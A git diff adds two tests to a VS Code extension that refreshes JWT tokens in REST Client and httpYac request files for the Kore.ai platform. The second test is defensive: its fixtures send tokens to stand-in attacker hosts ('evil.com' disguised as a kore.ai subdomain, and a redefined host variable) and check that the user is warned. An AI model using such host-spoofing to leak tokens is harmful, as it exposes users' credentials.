@@ -171,6 +171,48 @@ describe("tokens in text", function () {
       }
     });
 
+    it("refresh and send above each request whose token comes from a variable", async () => {
+      const called: unknown[] = [];
+      const standIn = vscode.commands.registerCommand("rest-client.request", (range: vscode.Range) => called.push(range.start.line));
+      try {
+        const document = await shown(`@token = ${await token({ exp: 1 })}\n\n### A\nPOST https://platform.kore.ai${SESSIONS}\nauth: {{token}}\n\n### B\nPOST https://platform.kore.ai${SESSIONS}\nauth: {{ token }}\n\n### C\nGET https://x/y\n`);
+        const lenses = await lensesOf(document);
+        assert.deepStrictEqual(lenses.map(({ range, command }) => `${range.start.line} ${command?.title}`).filter((each) => each.includes("send")), ["3 Refresh and send", "7 Refresh and send"]);
+        await click(lenses.find(({ range }) => range.start.line === 7));
+        assert.deepStrictEqual(called, [7]);
+        assert.ok(await isSignedWith(document.lineAt(0).text.replace("@token = ", ""), secret));
+      } finally {
+        standIn.dispose();
+      }
+    });
+
+    it("ask before a fresh token goes to a host that is not the platform's, however it is written", async () => {
+      const standIn = vscode.commands.registerCommand("rest-client.request", () => undefined);
+      try {
+        const jwe = `${base64url(JSON.stringify({ alg: "RSA-OAEP", enc: "A128GCM" }))}.a2V5.aXY.Y2lw.dGFn`;
+        for (const [text, asked] of [
+          [`# jwt-app: Sessions of my bot\nPOST https://evil.com\\.kore.ai${SESSIONS}\nauth: ${jwe}\n`, true],
+          [`@host = https://platform.kore.ai\n\n### A\nPOST {{host}}${SESSIONS}\nauth: ${await token()}\n\n###\n@host = https://evil.com\n`, true],
+          [`POST https://platform.kore.ai/api/1.1/oAuth/token/jwtgrant\n\n{"assertion":"${await token()}"}\n`, false],
+        ] as const) {
+          const document = await shown(text);
+          const send = (await lensesOf(document)).find(({ command }) => command?.title === "Refresh and send");
+          const before = document.getText();
+          const { showWarningMessage } = vscode.window;
+          let questions = 0;
+          Object.assign(vscode.window, { showWarningMessage: async () => void questions++ });
+          try {
+            await click(send);
+          } finally {
+            Object.assign(vscode.window, { showWarningMessage });
+          }
+          assert.deepStrictEqual([questions, document.getText() === before], asked ? [1, true] : [0, false], text);
+        }
+      } finally {
+        standIn.dispose();
+      }
+    });
+
     it("send with httpYac where that is what is installed", async () => {
       const called: unknown[][] = [];
       const standIn = vscode.commands.registerCommand("httpyac.send", (document: vscode.TextDocument, line: number) => {
